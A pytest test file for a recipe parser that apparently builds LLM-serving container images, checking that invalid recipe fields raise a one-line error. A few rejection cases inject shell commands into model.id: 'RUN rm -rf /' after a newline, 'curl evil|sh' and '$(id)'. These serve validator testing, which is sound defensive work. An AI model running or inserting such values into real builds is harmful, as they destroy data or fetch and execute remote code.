"""Recipe parsing: every example validates; every invalid recipe is a one-line RecipeError."""

from __future__ import annotations

import copy

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from imgfab.errors import RecipeError
from imgfab.recipe import load_recipe, parse_recipe, recipe_hash, recipe_json_schema

from conftest import RECIPES


@pytest.fixture(scope="module")
def base() -> dict:
    return yaml.safe_load((RECIPES[0].parent / "qwen2-7b-h100.yaml").read_text())


@pytest.mark.parametrize("path", RECIPES, ids=lambda p: p.name)
def test_examples_validate(path):
    recipe = load_recipe(path)
    assert recipe.name == path.stem


def test_at_least_four_examples_two_backends_three_families(matrix):
    recipes = [load_recipe(p) for p in RECIPES]
    assert len(recipes) >= 4
    assert {r.backend.name for r in recipes} == {"vllm", "tensorrt-llm"}
    families = {matrix.gpu(r.target.gpu).architecture for r in recipes}
    assert len(families) >= 3, families


@pytest.mark.parametrize("mutate, field", [
    (lambda d: d.update(colour="blue"), "colour"),
    (lambda d: d["engine"].update(quantisation="fp8"), "engine.quantisation"),
    (lambda d: d["target"].update(count="two"), "target.count"),
    (lambda d: d["model"].update(id="Qwen/Qwen2\nRUN rm -rf /"), "model.id"),
    (lambda d: d["model"].update(id="Qwen/Qwen2;curl evil|sh"), "model.id"),
    (lambda d: d["model"].update(id="$(id)"), "model.id"),
    (lambda d: d["model"].update(revision="main"), "model.revision"),
    (lambda d: d["model"].pop("revision"), "model.revision"),
    (lambda d: d["target"].update(driver="535"), "target.driver"),
    (lambda d: d["target"].update(driver="<=550"), "target.driver"),
    (lambda d: d["engine"].update(quantization="fp4"), "engine.quantization"),
    (lambda d: d["engine"].update(max_input_len=100000), "engine.max_input_len"),
    (lambda d: d["image"].update(repository="LLM/Qwen"), "image.repository"),
    (lambda d: d["image"].update(uid=0), "image.uid"),
    (lambda d: d.pop("image"), "image"),
    (lambda d: d["backend"].update(name="tgi"), "backend.name"),
    (lambda d: d["backend"].update(version="latest"), "backend.version"),
    (lambda d: d["backend"].update(name="tensorrt-llm"), "backend.trtllm_path"),
])
def test_invalid_recipes_name_the_field(base, mutate, field):
    data = copy.deepcopy(base)
    mutate(data)
    with pytest.raises(RecipeError) as info:
        parse_recipe(data)
    line = info.value.one_line()
    assert line.startswith(field + ":"), line
    assert "\n" not in line
    assert info.value.exit_code == 2


def test_schema_is_valid_json_schema():
    import jsonschema

    schema = recipe_json_schema()
    jsonschema.Draft202012Validator.check_schema(schema)
    assert schema["additionalProperties"] is False
    for path in RECIPES:
        jsonschema.validate(yaml.safe_load(path.read_text()), schema)


def test_hash_is_stable_and_sensitive(base):
    a = parse_recipe(copy.deepcopy(base))
    b = parse_recipe(copy.deepcopy(base))
    assert recipe_hash(a) == recipe_hash(b)
    changed = copy.deepcopy(base)
    changed["serve"]["port"] = 8001
    assert recipe_hash(parse_recipe(changed)) != recipe_hash(a)


def test_file_errors_are_recipe_errors(tmp_path):
    with pytest.raises(RecipeError):
        load_recipe(tmp_path / "missing.yaml")
    bad = tmp_path / "bad.yaml"
    bad.write_text("name: [unclosed\n")
    with pytest.raises(RecipeError) as info:
        load_recipe(bad)
    assert "line" in info.value.one_line()
    listed = tmp_path / "list.yaml"
    listed.write_text("- a\n- b\n")
    with pytest.raises(RecipeError):
        load_recipe(listed)


# Any JSON-like value, placed anywhere in an otherwise valid recipe.
_leaf = st.one_of(st.none(), st.booleans(), st.integers(-10**6, 10**9), st.floats(allow_nan=True),
                  st.text(max_size=40), st.sampled_from(["fp8", "nvfp4", "H100", "A100-80GB", ">=1",
                                                         "vllm", "/models/x", "0" * 40]))
_value = st.recursive(_leaf, lambda inner: st.one_of(st.lists(inner, max_size=3),
                                                    st.dictionaries(st.text(max_size=8), inner, max_size=3)),
                      max_leaves=6)
_paths = st.sampled_from([("name",), ("model", "id"), ("model", "revision"), ("model", "mount_path"),
                          ("target", "gpu"), ("target", "count"), ("target", "driver"),
                          ("target", "driver_policy"), ("backend", "name"), ("backend", "version"),
                          ("engine", "quantization"), ("engine", "max_seq_len"), ("serve", "port"),
                          ("serve", "presets"), ("image", "shm_size"), ("image", "uid"), ("extra",),
                          ("engine", "calibration")])


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(path=_paths, value=_value)
def test_property_any_mutation_is_valid_or_recipe_error(base, path, value):
    data = copy.deepcopy(base)
    node = data
    for key in path[:-1]:
        node = node.setdefault(key, {})
    node[path[-1]] = value
    try:
        parse_recipe(data)
    except RecipeError as error:
        line = error.one_line()
        assert line and "\n" not in line and "Traceback" not in line


def test_an_unwritten_max_input_len_never_refuses_a_recipe():
    """engine.max_input_len reaches only trtllm-build: left out, it is 4096 capped at
    max_seq_len, so a vLLM recipe with max_seq_len 2048 parses; written, it is checked."""
    from imgfab.errors import RecipeError
    from imgfab.recipe import parse_recipe

    base = {"name": "short", "model": {"id": "/models/m"}, "backend": {"name": "vllm"},
            "target": {"gpu": "H100-SXM", "driver": ">=580.95.05"},
            "image": {"repository": "llm/short"}}
    recipe = parse_recipe(base | {"engine": {"max_seq_len": 2048}})
    assert recipe.engine.max_input_len == 2048
    assert parse_recipe(base | {"engine": {"max_seq_len": 32768}}).engine.max_input_len == 4096
    assert parse_recipe(base).engine.max_input_len == 4096
    with pytest.raises(RecipeError) as caught:
        parse_recipe(base | {"engine": {"max_seq_len": 2048, "max_input_len": 4096}})
    assert caught.value.field == "engine.max_input_len"
